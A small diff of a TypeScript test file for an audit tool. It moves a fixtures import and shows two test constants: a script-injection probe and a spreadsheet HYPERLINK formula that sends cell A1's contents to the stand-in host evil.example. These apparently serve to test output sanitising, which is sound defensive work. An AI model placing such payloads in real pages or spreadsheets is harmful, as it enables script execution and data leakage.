@@ -9,7 +9,7 @@ import type { AuditResult } from '../../src/audit/types.js';
 import type { StoredFlow } from '../../src/store/types.js';
 import {
   CLIENT, T0, TO_DP, TO_MP, TO_SQL, baselineFlows, capture, catalog, flow, site,
-} from '../audit/fixtures.js';
+} from './audit-fixtures.js';
 
 export const HOSTILE = '<script>alert(1)</script>';
 export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
